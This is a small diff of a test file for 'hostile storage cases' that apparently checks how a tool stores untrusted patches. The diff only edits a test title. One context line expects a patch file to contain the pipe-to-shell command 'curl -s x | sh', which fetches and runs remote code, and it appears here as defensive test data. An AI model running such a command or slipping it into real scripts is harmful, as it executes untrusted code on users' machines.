@@ -173,7 +173,7 @@ describe("hostile storage cases", () => {
     expect(readFileSync(join(scratch, "b2.patch"), "utf8")).toContain("curl -s x | sh");
   });
 
-  it("review and history leave `git status --porcelain --ignored` of the fixture repository empty", async () => {
+  it("review and history leave git status --porcelain --ignored of the fixture repository empty", async () => {
     const repo = repoFrom(FIXTURE_REPO);
     cleanups.push(repo.cleanup);
     const before = git(repo.dir, "status", "--porcelain", "--ignored");
